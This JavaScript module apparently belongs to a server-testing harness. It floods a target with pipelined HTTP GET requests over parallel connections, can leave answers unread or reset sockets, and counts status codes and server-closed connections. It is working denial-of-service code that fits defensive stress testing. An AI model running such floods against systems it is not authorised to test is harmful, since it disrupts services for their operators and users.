/**
 * Many requests in one write, before any of their answers.
 * @import { Attack, Target } from '../support/attack-process.js'
 */

import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** The longest wait for a connection to be ended by the server, in milliseconds. */
const PATIENCE_MS = 2000;

/**
 * @typedef {object} Options
 * @property {string[]} paths one after another
 * @property {number} [many] requests in a write
 * @property {string} [headers] of each, with their line ends
 * @property {boolean} [isRead] true to read the answers
 * @property {boolean} [isReset] true to reset the connection after writing
 * @property {number} [connections] at once
 */

/** @type {Attack} options: Options */
export async function attack(target, options) {
  const counts = {
    connections: 0,
    ended: 0,
    sentBytes: 0,
    receivedBytes: 0,
    mostAnswers: 0,
    answers: /** @type {Record<string, number>} */ ({}),
  };
  const run = async () => {
    while (!target.isOver())
      await writeMany(
        target,
        options.paths[counts.connections % options.paths.length],
        options,
        counts,
      );
  };
  await Promise.all(Array.from({ length: options.connections ?? 4 }, run));
  return counts;
}

/**
 * @param {Target} target
 * @param {string} path
 * @param {Options} options
 * @param {any} counts
 */
async function writeMany(
  { host, port, from },
  path,
  { many = 600, headers = '', isRead = true, isReset = false },
  counts,
) {
  const socket = connect({ host, port, localAddress: from });
  const closed = new Promise((resolve) => void socket.once('close', () => resolve(true)));
  counts.connections += 1;
  let answered = 0;
  socket.on('error', () => {});
  socket.on('data', (bytes) => {
    counts.receivedBytes += bytes.length;
    for (const [, status] of bytes.toString('latin1').matchAll(/HTTP\/1\.1 (\d+) /g)) {
      counts.answers[status] = (counts.answers[status] ?? 0) + 1;
      counts.mostAnswers = Math.max(counts.mostAnswers, ++answered);
    }
  });
  if (!isRead) socket.pause();
  const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`;
  socket.write(request.repeat(many));
  counts.sentBytes += request.length * many;
  if (isReset) {
    await pause(20);
    socket.resetAndDestroy();
  }
  const isEnded = await Promise.race([closed, pause(PATIENCE_MS, false, { ref: false })]);
  if (isEnded) counts.ended += 1;
  socket.destroy();
}
